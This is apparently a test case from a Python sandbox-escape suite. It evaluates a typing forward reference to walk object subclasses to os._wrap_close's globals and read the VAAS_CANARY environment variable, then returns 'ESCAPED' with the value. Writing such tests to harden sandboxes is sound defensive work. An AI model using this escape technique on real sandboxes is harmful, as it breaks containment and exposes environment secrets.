"""No app has a forward reference evaluated by asking for the bound of a variable."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return int


def attack():
    kind = type(typing.get_args(typing.List["int"])[0])
    reference = kind(CODE)
    typing.get_type_hints(type("Holder", (), {"__annotations__": {"x": reference}}) if False else holder(reference))
    return "ESCAPED: " + found[0]


def holder(reference):
    class Holder:
        x: typing.Union[reference, None]

    return Holder
